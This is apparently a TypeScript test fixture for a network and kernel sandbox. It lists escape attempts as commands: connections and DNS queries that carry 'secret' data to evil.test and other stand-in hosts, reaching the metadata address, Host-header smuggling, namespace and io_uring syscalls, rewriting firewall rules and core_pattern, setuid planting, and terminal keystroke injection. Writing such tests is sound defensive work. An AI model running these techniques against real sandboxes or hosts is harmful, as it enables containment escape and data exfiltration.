/**
 * Ways out of a fence, as programs. Each prints OUT and nothing else when its own view says that it worked;
 * where the proof lies elsewhere (the sink, the name server, the origin), the test looks there.
 */

/** Python that a test runs with `python3 -c`; `out()` says that the attack worked. */
const python = (body: string): string[] => [
  'python3',
  '-c',
  `import ctypes, os, socket, struct, sys, time\nlibc = ctypes.CDLL(None, use_errno=True)\ndef out(): print("OUT")\n${body}`,
];

export interface Attack {
  title: string;
  command: string[];
  /** How the control shows that the attack is real without a fence. */
  proof:
    | 'prints OUT'
    | 'reaches the sink'
    | 'is asked of the name server'
    | 'reaches the origin as evil.test';
  /** Where the control needs root, or a kernel feature that not every machine has. */
  controlNeedsRoot?: boolean;
}

const connect = (address: string, port: number, family = 'AF_INET') =>
  python(`
s = socket.socket(socket.${family}); s.settimeout(2)
s.connect(("${address}", ${port})); s.sendall(b"GET /secret HTTP/1.0\\r\\n\\r\\n"); time.sleep(0.1)`);

const datagram = (address: string, port: number, family = 'AF_INET', payload = 'secret') =>
  python(`
s = socket.socket(socket.${family}, socket.SOCK_DGRAM)
s.sendto(b"${payload}", ("${address}", ${port})); time.sleep(0.1)`);

export const NETWORK_ATTACKS: readonly Attack[] = [
  { title: 'a raw IPv4 address', command: connect('203.0.113.66', 443), proof: 'reaches the sink' },
  {
    title: 'a raw IPv6 address',
    command: connect('2001:db8:66::66', 443, 'AF_INET6'),
    proof: 'reaches the sink',
  },
  { title: 'a private address', command: connect('10.0.0.1', 22), proof: 'reaches the sink' },
  { title: 'the metadata address', command: connect('169.254.169.254', 80), proof: 'reaches the sink' },
  {
    title: 'a mapped IPv4 address',
    command: connect('::ffff:203.0.113.66', 80, 'AF_INET6'),
    proof: 'reaches the sink',
  },
  { title: 'a name that no rule allows', command: connect('evil.test', 443), proof: 'reaches the sink' },
  { title: 'UDP to an address', command: datagram('203.0.113.66', 5000), proof: 'reaches the sink' },
  {
    title: 'QUIC, which is UDP on port 443',
    command: datagram('203.0.113.66', 443),
    proof: 'reaches the sink',
  },
  {
    title: 'UDP over IPv6',
    command: datagram('2001:db8:66::66', 443, 'AF_INET6'),
    proof: 'reaches the sink',
  },
  { title: 'multicast DNS', command: datagram('224.0.0.251', 5353), proof: 'reaches the sink' },
  {
    title: 'a DNS question straight to a public resolver',
    command: python(`
q = b"\\x12\\x34\\x01\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6secret\\4evil\\4test\\0\\0\\1\\0\\1"
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
s.sendto(q, ("9.9.9.9", 5353)); s.sendto(q, ("9.9.9.9", 53)); time.sleep(0.1)`),
    proof: 'reaches the sink',
  },
  {
    title: 'secrets in the labels of a look-up',
    command: ['sh', '-c', 'getent hosts c2VjcmV0.evil.test; getent ahosts c2VjcmV0.allowed.test; true'],
    proof: 'is asked of the name server',
  },
  {
    title: 'DNS over TCP',
    command: python(`
q = b"\\x12\\x34\\x01\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6secret\\4evil\\4test\\0\\0\\1\\0\\1"
s = socket.create_connection(("9.9.9.9", 53), 2); s.sendall(struct.pack(">H", len(q)) + q); time.sleep(0.1)`),
    proof: 'reaches the sink',
  },
  {
    title: 'ICMP echo',
    command: python(`
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); s.settimeout(1)
s.sendto(b"\\x08\\0\\xf7\\xfd\\0\\1\\0\\1", ("203.0.113.66", 0)); s.recv(100); out()`),
    proof: 'prints OUT',
    controlNeedsRoot: true,
  },
  {
    title: 'a packet socket',
    command: python('socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300); out()'),
    proof: 'prints OUT',
    controlNeedsRoot: true,
  },
  {
    title: 'a server name that is not the one asked for',
    command: [
      'curl',
      '-ksS',
      '-m',
      '3',
      '--connect-to',
      'evil.test:443:allowed.test:443',
      'https://evil.test/hello',
    ],
    proof: 'reaches the origin as evil.test',
  },
  {
    title: 'a Host that is not the one asked for',
    command: ['curl', '-sS', '-m', '3', '-H', 'Host: evil.test', 'http://allowed.test/hello'],
    proof: 'reaches the origin as evil.test',
  },
  {
    title: 'another Host on the tenth request of a connection',
    command: python(`
s = socket.create_connection(("allowed.test", 80), 3); s.settimeout(3)
for host in ["allowed.test"] * 9 + ["evil.test"]:
  s.sendall(f"GET /hello HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n".encode()); s.recv(4096)`),
    proof: 'reaches the origin as evil.test',
  },
  {
    title: 'another Host in a pipelined request',
    command: python(`
s = socket.create_connection(("allowed.test", 80), 3); s.settimeout(3)
s.sendall(b"GET /hello HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\nGET /hello HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n")
time.sleep(0.3); s.recv(4096)`),
    proof: 'reaches the origin as evil.test',
  },
];

const syscall = (number: number, ...args: string[]) =>
  python(`
r = libc.syscall(${[number, ...args].join(', ')})
if r >= 0: out()
else: print(os.strerror(ctypes.get_errno()))`);

/** System calls and sockets that go around a network namespace. x86-64 numbers. */
export const KERNEL_ATTACKS: readonly Attack[] = [
  { title: 'vsock', command: python('socket.socket(40, socket.SOCK_STREAM); out()'), proof: 'prints OUT' },
  {
    title: 'AF_ALG',
    command: python('socket.socket(38, socket.SOCK_SEQPACKET); out()'),
    proof: 'prints OUT',
  },
  {
    title: 'io_uring',
    command: syscall(425, '8', 'ctypes.create_string_buffer(120)'),
    proof: 'prints OUT',
  },
  { title: 'a new user namespace', command: syscall(272, '0x10000000'), proof: 'prints OUT' },
  {
    title: 'a new user namespace by clone',
    command: ['sh', '-c', 'unshare -Urn true && echo OUT'],
    proof: 'prints OUT',
  },
  { title: 'userfaultfd', command: syscall(323, '1'), proof: 'prints OUT' },
  { title: 'keyrings', command: syscall(250, '0', '-3', '1'), proof: 'prints OUT' },
  {
    title: 'a netfilter socket',
    command: python('socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12); out()'),
    proof: 'prints OUT',
  },
  {
    title: 'the rules of the fence, changed by nft',
    command: ['sh', '-c', 'PATH=$PATH:/usr/sbin nft add table inet planted && echo OUT'],
    proof: 'prints OUT',
    controlNeedsRoot: true,
  },
  {
    title: 'a new address by ip',
    command: ['sh', '-c', 'PATH=$PATH:/usr/sbin ip address add 10.9.9.9/32 dev lo && echo OUT'],
    proof: 'prints OUT',
    controlNeedsRoot: true,
  },
  {
    title: 'a sysctl',
    command: [
      'sh',
      '-c',
      'cat /proc/sys/kernel/core_pattern > pattern && cat pattern > /proc/sys/kernel/core_pattern && echo OUT',
    ],
    proof: 'prints OUT',
    controlNeedsRoot: true,
  },
  {
    title: 'a setuid file',
    command: ['sh', '-c', 'cp /bin/true planted && chmod u+s planted && [ -u planted ] && echo OUT'],
    proof: 'prints OUT',
  },
  {
    title: 'a setgid file by open(2)',
    command: python(
      'fd = os.open("planted2", os.O_CREAT | os.O_WRONLY, 0o2755); os.stat("planted2").st_mode & 0o2000 and out()',
    ),
    proof: 'prints OUT',
  },
  {
    title: 'a keystroke pushed into the terminal',
    command: [
      'script',
      '-qec',
      `python3 -c 'import fcntl; fcntl.ioctl(0, 0x5412, b"x"); print("OUT")'`,
      '/dev/null',
    ],
    proof: 'prints OUT',
    controlNeedsRoot: true,
  },
];
